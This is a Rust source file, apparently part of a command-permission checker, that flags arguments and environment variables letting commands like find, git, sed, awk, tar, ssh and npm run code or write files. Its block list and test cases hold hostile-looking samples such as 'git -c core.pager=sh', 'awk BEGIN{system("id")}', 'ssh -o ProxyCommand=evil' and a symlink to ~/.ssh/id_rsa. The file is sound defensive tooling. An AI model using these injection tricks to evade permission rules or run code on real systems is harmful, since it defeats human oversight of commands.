@@ -1,0 +1,677 @@
+//! Flags and variables that turn a harmless-looking command into one that runs programs or
+//! writes files, and the arguments that are files a command writes.
+//!
+//! The hard question: can this argv do more than its program's name suggests? `find` with
+//! `-exec`, `git` with `-c core.pager=…`, `sed` with `e`, `NODE_OPTIONS=--require …`: an allow
+//! rule's `*` must never swallow these, so each one found here must be spelled out by the rule.
+//! The table errs on the side of listing: a listed flag only means "a rule must name it".
+
+/// Environment variables that load code, swap programs or redirect configuration.
+const RISKY_VARS: &[&str] = &[
+    "LD_PRELOAD",
+    "LD_LIBRARY_PATH",
+    "LD_AUDIT",
+    "DYLD_INSERT_LIBRARIES",
+    "DYLD_LIBRARY_PATH",
+    "DYLD_FRAMEWORK_PATH",
+    "BASH_ENV",
+    "ENV",
+    "PROMPT_COMMAND",
+    "PS4",
+    "SHELLOPTS",
+    "BASHOPTS",
+    "IFS",
+    "PATH",
+    "CDPATH",
+    "NODE_OPTIONS",
+    "NODE_PATH",
+    "PYTHONSTARTUP",
+    "PYTHONPATH",
+    "PYTHONHOME",
+    "PYTHONBREAKPOINT",
+    "PYTHONUSERBASE",
+    "PERL5OPT",
+    "PERL5LIB",
+    "PERLLIB",
+    "PERL5DB",
+    "RUBYOPT",
+    "RUBYLIB",
+    "EDITOR",
+    "VISUAL",
+    "PAGER",
+    "MANPAGER",
+    "SYSTEMD_PAGER",
+    "LESSOPEN",
+    "LESSCLOSE",
+    "BROWSER",
+    "SSH_ASKPASS",
+    "SUDO_ASKPASS",
+    "JAVA_TOOL_OPTIONS",
+    "_JAVA_OPTIONS",
+    "JDK_JAVA_OPTIONS",
+    "MAVEN_OPTS",
+    "GRADLE_OPTS",
+    "DOTNET_STARTUP_HOOKS",
+    "PIP_INDEX_URL",
+    "PIP_EXTRA_INDEX_URL",
+    "PIP_CONFIG_FILE",
+    "UV_INDEX_URL",
+    "UV_EXTRA_INDEX_URL",
+    "GOFLAGS",
+    "GOPROXY",
+    "CC",
+    "CXX",
+    "LD",
+    "RUSTC",
+    "RUSTC_WRAPPER",
+    "RUSTC_WORKSPACE_WRAPPER",
+    "RUSTDOC",
+    "RUSTFLAGS",
+    "RUSTDOCFLAGS",
+    "CARGO_ENCODED_RUSTFLAGS",
+    "CARGO_HOME",
+    "HOME",
+    "XDG_CONFIG_HOME",
+    "ZDOTDIR",
+    "MAKEFLAGS",
+    "MAKEFILES",
+    "SHELL",
+    "GCONV_PATH",
+    "HOSTALIASES",
+    "TERMINFO",
+];
+
+/// Prefixes of environment variable names that are all risky.
+const RISKY_VAR_PREFIXES: &[&str] =
+    &["GIT_", "NPM_CONFIG_", "YARN_", "PNPM_", "CARGO_BUILD_", "CARGO_TARGET_", "CORECLR_", "BUN_CONFIG_"];
+
+/// Is this variable name one that can make a later program run other code?
+pub fn risky_var(name: &str) -> bool {
+    let upper = name.to_ascii_uppercase();
+    RISKY_VARS.contains(&upper.as_str()) || RISKY_VAR_PREFIXES.iter().any(|p| upper.starts_with(p))
+}
+
+fn base(program: &str) -> &str {
+    program.rsplit('/').next().unwrap_or(program)
+}
+
+/// `--name` or `--name=value`.
+fn long(word: &str, name: &str) -> bool {
+    word == name || word.strip_prefix(name).is_some_and(|r| r.starts_with('='))
+}
+
+/// A short-option cluster (`-ni`) that holds the letter.
+fn short_has(word: &str, letter: char) -> bool {
+    word.len() > 1 && word.starts_with('-') && !word.starts_with("--") && word[1..].contains(letter)
+}
+
+/// A short option with its value glued on or standalone (`-O`, `-Ofile`).
+fn short(word: &str, flag: &str) -> bool {
+    word.starts_with(flag) && !word.starts_with("--")
+}
+
+/// The flags (as they must appear in an allow rule) that make this argv run programs or write
+/// files beyond what its program name suggests. Empty for an ordinary command.
+pub fn risky_flags(words: &[&str]) -> Vec<String> {
+    let Some(program) = words.first() else { return Vec::new() };
+    let args = &words[1..];
+    let mut out: Vec<String> = Vec::new();
+    let mut flag = |f: &str| {
+        if !out.iter().any(|o| o == f) {
+            out.push(f.to_string());
+        }
+    };
+    match base(program) {
+        "find" | "gfind" => {
+            for w in args {
+                if matches!(
+                    *w,
+                    "-exec" | "-execdir" | "-ok" | "-okdir" | "-delete" | "-fprint" | "-fprint0" | "-fprintf" | "-fls"
+                ) {
+                    flag(w);
+                }
+            }
+        }
+        "fd" | "fdfind" => {
+            for w in args {
+                if matches!(*w, "-x" | "-X") || long(w, "--exec") || long(w, "--exec-batch") {
+                    flag(w.split('=').next().unwrap_or(w));
+                }
+            }
+        }
+        "git" => git_flags(args, &mut flag),
+        "sed" | "gsed" => sed_flags(args, &mut flag),
+        "awk" | "gawk" | "mawk" | "nawk" | "busybox-awk" => awk_flags(args, &mut flag),
+        "rg" => {
+            for w in args {
+                if long(w, "--pre") {
+                    flag("--pre");
+                }
+            }
+        }
+        "tar" | "gtar" | "bsdtar" => {
+            for w in args {
+                for name in [
+                    "--to-command",
+                    "--checkpoint-action",
+                    "--use-compress-program",
+                    "--info-script",
+                    "--new-volume-script",
+                    "--rsh-command",
+                    "--rmt-command",
+                ] {
+                    if long(w, name) {
+                        flag(name);
+                    }
+                }
+                if *w == "-I" || *w == "-F" {
+                    flag(w);
+                }
+            }
+        }
+        "rsync" => {
+            for w in args {
+                if long(w, "--rsh") || long(w, "--rsync-path") {
+                    flag(w.split('=').next().unwrap_or(w));
+                } else if short_has(w, 'e') {
+                    flag("-e");
+                }
+            }
+        }
+        "ssh" | "scp" | "sftp" => {
+            for (i, w) in args.iter().enumerate() {
+                let opt = if *w == "-o" {
+                    args.get(i + 1).copied().unwrap_or("")
+                } else {
+                    w.strip_prefix("-o").unwrap_or("")
+                };
+                let lower = opt.to_ascii_lowercase();
+                if ["proxycommand", "localcommand", "permitlocalcommand", "proxyusefdpass"]
+                    .iter()
+                    .any(|k| lower.starts_with(k))
+                {
+                    flag("-o");
+                }
+                if *w == "-F" || (base(program) != "ssh" && *w == "-S") {
+                    flag(w);
+                }
+            }
+        }
+        "less" | "more" | "most" | "vi" | "vim" | "nvim" | "view" | "ex" | "emacs" | "nano" => {
+            for w in args {
+                if w.starts_with('+') {
+                    flag("+");
+                }
+                if matches!(*w, "-c" | "--cmd" | "-S" | "--eval" | "-l" | "--load") {
+                    flag(w);
+                }
+            }
+        }
+        "man" => {
+            for w in args {
+                if short(w, "-P") || long(w, "--pager") || short(w, "-H") || long(w, "--html") {
+                    flag(w.split('=').next().unwrap_or(w));
+                }
+            }
+        }
+        "sort" => {
+            for w in args {
+                if short(w, "-o") || long(w, "--output") || long(w, "--compress-program") {
+                    flag(w.split('=').next().unwrap_or(w));
+                }
+            }
+        }
+        "curl" => {
+            for w in args {
+                for name in ["--output", "--remote-name", "--config", "--upload-file", "--output-dir"] {
+                    if long(w, name) {
+                        flag(name);
+                    }
+                }
+                if matches!(*w, "-o" | "-O" | "-K" | "-T") || short(w, "-o") {
+                    flag(&w[..2]);
+                }
+            }
+        }
+        "wget" => {
+            for w in args {
+                for name in ["--execute", "--output-document", "--post-file", "--input-file", "--output-file"] {
+                    if long(w, name) {
+                        flag(name);
+                    }
+                }
+                if matches!(*w, "-e" | "-O" | "-i" | "-o") {
+                    flag(w);
+                }
+            }
+        }
+        "zip" => {
+            for w in args {
+                if *w == "-TT" || long(w, "--unzip-command") {
+                    flag(w.split('=').next().unwrap_or(w));
+                }
+            }
+        }
+        "npm" | "pnpm" | "yarn" | "bun" | "npx" | "pnpx" | "bunx" => {
+            for w in args {
+                for name in [
+                    "--script-shell",
+                    "--node-options",
+                    "--userconfig",
+                    "--globalconfig",
+                    "--registry",
+                    "--call",
+                    "--prefix",
+                ] {
+                    if long(w, name) {
+                        flag(name);
+                    }
+                }
+                if *w == "-c" {
+                    flag("-c");
+                }
+            }
+            if let Some(sub) = args.iter().find(|w| !w.starts_with('-')) {
+                if matches!(*sub, "exec" | "x" | "dlx" | "create" | "init") {
+                    flag(sub);
+                }
+            }
+        }
+        "pip" | "pip3" | "uv" | "pipx" => {
+            for w in args {
+                for name in ["--index-url", "--extra-index-url", "--find-links", "--trusted-host", "--config-file"] {
+                    if long(w, name) {
+                        flag(name);
+                    }
+                }
+                if matches!(*w, "-i" | "-f") {
+                    flag(w);
+                }
+            }
+        }
+        "cargo" => {
+            for w in args {
+                if long(w, "--config") {
+                    flag("--config");
+                }
+                if short(w, "-Z") {
+                    flag("-Z");
+                }
+            }
+        }
+        "go" => {
+            for w in args {
+                for name in ["-toolexec", "-exec", "-overlay", "--toolexec", "--exec"] {
+                    if long(w, name) {
+                        flag(name);
+                    }
+                }
+            }
+        }
+        "make" | "gmake" => {
+            for w in args {
+                if matches!(*w, "-f" | "--file" | "--makefile" | "-E") || long(w, "--eval") || long(w, "--file") {
+                    flag(w.split('=').next().unwrap_or(w));
+                }
+                if let Some((name, _)) = w.split_once('=') {
+                    if !name.starts_with('-') && (name == "SHELL" || name == "MAKESHELL" || risky_var(name)) {
+                        flag(&format!("{name}="));
+                    }
+                }
+            }
+        }
+        "gradle" | "gradlew" | "./gradlew" => {
+            for w in args {
+                if matches!(*w, "-I") || long(w, "--init-script") {
+                    flag(w.split('=').next().unwrap_or(w));
+                }
+            }
+        }
+        "export" | "declare" | "typeset" | "local" | "readonly" | "env" => {
+            for w in args {
+                if let Some((name, _)) = w.split_once('=') {
+                    if risky_var(name) {
+                        flag(&format!("{name}="));
+                    }
+                }
+            }
+        }
+        _ => {}
+    }
+    out
+}
+
+fn git_flags(args: &[&str], flag: &mut impl FnMut(&str)) {
+    let mut i = 0;
+    // Global options, before the sub-command.
+    while let Some(w) = args.get(i) {
+        if !w.starts_with('-') {
+            break;
+        }
+        if *w == "-c" || long(w, "--config-env") {
+            flag(w.split('=').next().unwrap_or(w));
+            i += 1;
+        } else if short(w, "-c") {
+            flag("-c");
+        } else if long(w, "--exec-path") || long(w, "--git-dir") || long(w, "--work-tree") {
+            flag(w.split('=').next().unwrap_or(w));
+            if !w.contains('=') && *w != "--exec-path" {
+                i += 1;
+            }
+        } else if *w == "-C" || *w == "--namespace" {
+            i += 1;
+        }
+        i += 1;
+    }
+    let Some(sub) = args.get(i) else { return };
+    let rest = &args[i + 1..];
+    for w in rest {
+        for name in [
+            "--output",
+            "--ext-diff",
+            "--upload-pack",
+            "--receive-pack",
+            "--exec",
+            "--open-files-in-pager",
+            "--extcmd",
+            "--tool",
+            "--textconv",
+        ] {
+            if long(w, name) {
+                flag(name);
+            }
+        }
+    }
+    match *sub {
+        "grep" if rest.iter().any(|w| short(w, "-O")) => flag("-O"),
+        "fetch" | "clone" | "ls-remote" | "archive" | "pull" if rest.contains(&"-u") => flag("-u"),
+        "rebase" if rest.contains(&"-x") => flag("-x"),
+        "difftool" | "mergetool" => flag(sub),
+        "submodule" if rest.contains(&"foreach") => flag("foreach"),
+        "bisect" if rest.first() == Some(&"run") => flag("run"),
+        "filter-branch" | "filter-repo" => flag(sub),
+        "config" => {
+            let read_only = rest.iter().any(|w| {
+                matches!(
+                    *w,
+                    "--get" | "--get-all" | "--get-regexp" | "--list" | "-l" | "--get-urlmatch" | "--show-origin"
+                )
+            }) || (rest.iter().filter(|w| !w.starts_with('-')).count() <= 1
+                && !rest.iter().any(|w| {
+                    matches!(
+                        *w,
+                        "--unset"
+                            | "--unset-all"
+                            | "--edit"
+                            | "-e"
+                            | "--add"
+                            | "--replace-all"
+                            | "--remove-section"
+                            | "--rename-section"
+                    )
+                }));
+            if !read_only {
+                flag("config");
+            }
+        }
+        _ => {}
+    }
+}
+
+fn sed_flags(args: &[&str], flag: &mut impl FnMut(&str)) {
+    let mut scripts: Vec<&str> = Vec::new();
+    let mut explicit = false;
+    let mut i = 0;
+    while let Some(w) = args.get(i) {
+        if long(w, "--in-place") || short_has(w, 'i') {
+            flag(if w.starts_with("--") { "--in-place" } else { "-i" });
+        }
+        if *w == "-e" || *w == "--expression" {
+            explicit = true;
+            if let Some(s) = args.get(i + 1) {
+                scripts.push(s);
+            }
+            i += 1;
+        } else if let Some(s) = w.strip_prefix("--expression=") {
+            explicit = true;
+            scripts.push(s);
+        } else if *w == "-f" || long(w, "--file") {
+            flag("-f");
+            explicit = true;
+        } else if !w.starts_with('-') && !explicit && scripts.is_empty() {
+            scripts.push(w);
+        }
+        i += 1;
+    }
+    for s in scripts {
+        if sed_script_runs(s) {
+            flag(s);
+        }
+    }
+}
+
+/// Does a sed script use `e` (run a command), `w`/`W` (write a file) or the `e`/`w` flags
+/// of `s`? A conservative reading: any `s` command whose flags hold `e` or `w`, and any
+/// command letter `e`, `w` or `W` after an address or separator.
+fn sed_script_runs(script: &str) -> bool {
+    let b = script.as_bytes();
+    let mut i = 0;
+    let mut at_command = true;
+    while i < b.len() {
+        let c = b[i];
+        if at_command {
+            match c {
+                b' ' | b'\t' | b'\n' | b';' | b'!' | b'{' | b'}' => {}
+                b'0'..=b'9' | b',' | b'$' | b'~' | b'+' => {}
+                b'/' | b'\\' => {
+                    // An address regex: skip to its closing delimiter.
+                    let delim = if c == b'\\' {
+                        i += 1;
+                        b.get(i).copied().unwrap_or(b'/')
+                    } else {
+                        c
+                    };
+                    i = skip_delimited(b, i + 1, delim);
+                    continue;
+                }
+                b'e' | b'w' | b'W' => return true,
+                b's' | b'y' => {
+                    let Some(&delim) = b.get(i + 1) else { return false };
+                    let after_pattern = skip_delimited(b, i + 2, delim);
+                    let after_replacement = skip_delimited(b, after_pattern, delim);
+                    let mut j = after_replacement;
+                    while j < b.len() && !matches!(b[j], b';' | b'\n' | b'}') {
+                        if c == b's' && matches!(b[j], b'e' | b'w' | b'W') {
+                            return true;
+                        }
+                        j += 1;
+                    }
+                    i = j;
+                    continue;
+                }
+                _ => at_command = false,
+            }
+        } else if matches!(c, b';' | b'\n' | b'}') {
+            at_command = true;
+        }
+        i += 1;
+    }
+    false
+}
+
+/// The index just past the next unescaped `delim` from `i`.
+fn skip_delimited(b: &[u8], mut i: usize, delim: u8) -> usize {
+    while i < b.len() {
+        if b[i] == b'\\' {
+            i += 2;
+            continue;
+        }
+        if b[i] == delim {
+            return i + 1;
+        }
+        i += 1;
+    }
+    i
+}
+
+fn awk_flags(args: &[&str], flag: &mut impl FnMut(&str)) {
+    let mut program: Option<&str> = None;
+    let mut i = 0;
+    while let Some(w) = args.get(i) {
+        if *w == "-f" || long(w, "--file") || *w == "-E" || long(w, "--exec") || short(w, "-l") || long(w, "--load") {
+            flag(w.split('=').next().unwrap_or(w));
+            program = Some("");
+        } else if matches!(*w, "-v" | "-F") {
+            i += 1;
+        } else if !w.starts_with('-') && program.is_none() {
+            program = Some(w);
+        }
+        i += 1;
+    }
+    let Some(p) = program else { return };
+    let compact: String = p.chars().filter(|c| !c.is_whitespace()).collect();
+    if compact.contains("system(")
+        || compact.contains("getline")
+        || compact.contains("|&")
+        || compact.contains("\"|")
+        || compact.contains("|\"")
+    {
+        flag(p);
+        return;
+    }
+    // `print … > "file"`: an output redirection inside the program.
+    for (k, _) in p.match_indices("print") {
+        let rest = &p[k..];
+        let end = rest.find([';', '}', '\n']).unwrap_or(rest.len());
+        if rest[..end].contains('>') || rest[..end].contains('|') {
+            flag(p);
+            return;
+        }
+    }
+}
+
+/// The files an argv writes (or deletes) through its arguments: `tee F`, `cp A B` (B),
+/// `ln -s T L` (L), `touch F`, `rm F`, `dd of=F`, `sed -i … F`. Flags and their values are
+/// skipped; `None` in the list stands for a write target that is not known statically.
+pub fn write_args(words: &[Option<&str>]) -> Vec<Option<String>> {
+    let Some(Some(program)) = words.first() else { return Vec::new() };
+    let args = &words[1..];
+    let operands = || {
+        let mut out = Vec::new();
+        let mut end_of_options = false;
+        for w in args {
+            match w {
+                Some("--") if !end_of_options => end_of_options = true,
+                Some(s) if !end_of_options && s.starts_with('-') && s.len() > 1 => {}
+                other => out.push(other.map(String::from)),
+            }
+        }
+        out
+    };
+    match base(program) {
+        "tee" | "touch" | "mkdir" | "rm" | "rmdir" | "unlink" | "shred" | "truncate" | "mkfifo" => operands(),
+        "cp" | "mv" | "install" | "ln" | "rsync" | "scp" => {
+            // `-t DIR` names the destination; otherwise the last operand.
+            if let Some(pos) = args.iter().position(|w| *w == Some("-t") || *w == Some("--target-directory")) {
+                return vec![args.get(pos + 1).and_then(|w| w.map(String::from))];
+            }
+            if let Some(t) = args.iter().find_map(|w| w.and_then(|s| s.strip_prefix("--target-directory="))) {
+                return vec![Some(t.to_string())];
+            }
+            let ops = operands();
+            match (base(program), ops.len()) {
+                (_, 0) => Vec::new(),
+                // `ln -s target` makes a link named after the target in the current folder.
+                ("ln", 1) => vec![ops[0].as_ref().map(|t| t.rsplit('/').next().unwrap_or(t).to_string())],
+                (_, 1) => Vec::new(),
+                _ => ops.last().cloned().into_iter().collect(),
+            }
+        }
+        "chmod" | "chown" | "chgrp" => operands().into_iter().skip(1).collect(),
+        "dd" => {
+            args.iter().filter_map(|w| w.and_then(|s| s.strip_prefix("of=")).map(|s| Some(s.to_string()))).collect()
+        }
+        "sed" | "gsed" if args.iter().any(|w| w.is_some_and(|s| long(s, "--in-place") || short_has(s, 'i'))) => {
+            let explicit = args.iter().any(|w| matches!(w, Some("-e" | "--expression" | "-f" | "--file")));
+            let mut ops = operands();
+            if !explicit && !ops.is_empty() {
+                ops.remove(0);
+            }
+            ops
+        }
+        _ => Vec::new(),
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn risky_flag_table() {
+        // Words are split on spaces, or on `·` where a program holds spaces.
+        let cases: &[(&str, &[&str])] = &[
+            ("find . -name *.rs", &[]),
+            ("find . -exec curl x ;", &["-exec"]),
+            ("find . -delete", &["-delete"]),
+            ("git status", &[]),
+            ("git -c core.pager=sh status", &["-c"]),
+            ("git diff --output=/tmp/x", &["--output"]),
+            ("git diff --ext-diff", &["--ext-diff"]),
+            ("git grep -O foo", &["-O"]),
+            ("git grep --open-files-in-pager=vim foo", &["--open-files-in-pager"]),
+            ("git fetch --upload-pack=evil origin", &["--upload-pack"]),
+            ("git config core.pager evil", &["config"]),
+            ("git config --get user.name", &[]),
+            ("git log --oneline", &[]),
+            ("sed·-n·1,5p·f", &[]),
+            ("sed·-i·s/a/b/·f", &["-i"]),
+            ("sed·s/a/b/e·f", &["s/a/b/e"]),
+            ("sed·1e id·f", &["1e id"]),
+            ("sed·-n·/x/w out·f", &["/x/w out"]),
+            ("sed·s/a/b/g·f", &[]),
+            ("sed·/east/d·f", &[]),
+            ("awk·{print $1}·f", &[]),
+            ("awk·$3 > 100·f", &[]),
+            ("awk·BEGIN{system(\"id\")}", &["BEGIN{system(\"id\")}"]),
+            ("awk·{print > \"out\"}·f", &["{print > \"out\"}"]),
+            ("rg --pre=./x foo", &["--pre"]),
+            ("tar --to-command=sh -xf a.tar", &["--to-command"]),
+            ("tar --checkpoint=1 --checkpoint-action=exec=sh -cf a.tar .", &["--checkpoint-action"]),
+            ("rsync -e sh a b", &["-e"]),
+            ("rsync -avz a b", &[]),
+            ("npm test", &[]),
+            ("npm test --script-shell=./evil", &["--script-shell"]),
+            ("npm exec evil", &["exec"]),
+            ("pip install -i http://evil x", &["-i"]),
+            ("cargo build --config target.x.runner='sh'", &["--config"]),
+            ("make SHELL=./evil", &["SHELL="]),
+            ("export GIT_SSH_COMMAND=evil", &["GIT_SSH_COMMAND="]),
+            ("export FOO=1", &[]),
+            ("ssh -o ProxyCommand=evil host", &["-o"]),
+            ("less +!id f", &["+"]),
+        ];
+        for (cmd, want) in cases {
+            let sep = if cmd.contains('·') { '·' } else { ' ' };
+            let words: Vec<&str> = cmd.split(sep).collect();
+            assert_eq!(risky_flags(&words), want.iter().map(|s| s.to_string()).collect::<Vec<_>>(), "{cmd}");
+        }
+    }
+
+    #[test]
+    fn write_arguments() {
+        let w = |s: &str| -> Vec<Option<String>> {
+            let words: Vec<Option<&str>> = s.split(' ').map(Some).collect();
+            write_args(&words)
+        };
+        assert_eq!(w("tee a b"), [Some("a".into()), Some("b".into())]);
+        assert_eq!(w("cp -r a b .git/hooks/x"), [Some(".git/hooks/x".into())]);
+        assert_eq!(w("cp -t .git/hooks a"), [Some(".git/hooks".into())]);
+        assert_eq!(w("ln -s ~/.ssh/id_rsa k"), [Some("k".into())]);
+        assert_eq!(w("dd if=a of=.git/config"), [Some(".git/config".into())]);
+        assert_eq!(w("sed -i s/a/b/ x y"), [Some("x".into()), Some("y".into())]);
+        assert_eq!(w("sed s/a/b/ x"), Vec::<Option<String>>::new());
+        assert_eq!(w("chmod +x a.sh"), [Some("a.sh".into())]);
+        assert_eq!(w("cat a"), Vec::<Option<String>>::new());
+    }
+}
